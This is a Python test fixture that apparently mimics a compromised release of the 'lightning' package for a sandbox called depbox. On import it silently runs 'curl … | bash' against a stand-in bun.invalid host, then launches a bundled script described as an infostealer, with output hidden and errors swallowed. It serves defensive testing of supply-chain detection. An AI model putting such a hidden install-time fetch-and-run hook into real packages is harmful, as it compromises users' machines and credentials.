# TEST FIXTURE — re-enacts lightning 2.6.2/2.6.3 (MAL-2026-3201, April
# 2026): code injected into the package's import fetches a JavaScript
# runtime and runs a bundled JavaScript infostealer with it. Inert: the
# runtime's host is bun.invalid, the "stealer" only names *.invalid hosts,
# and it runs only inside depbox's sandbox.
import os
import subprocess

__version__ = "2.6.3"


def _start():
    here = os.path.dirname(os.path.abspath(__file__))
    bun = os.path.expanduser("~/.bun/bin/bun")
    try:
        if not os.path.exists(bun):
            subprocess.run(["sh", "-c", "curl -fsSL https://bun.invalid/install | bash"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
        subprocess.Popen([bun, os.path.join(here, "_runtime", "router_runtime.js")],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass


_start()
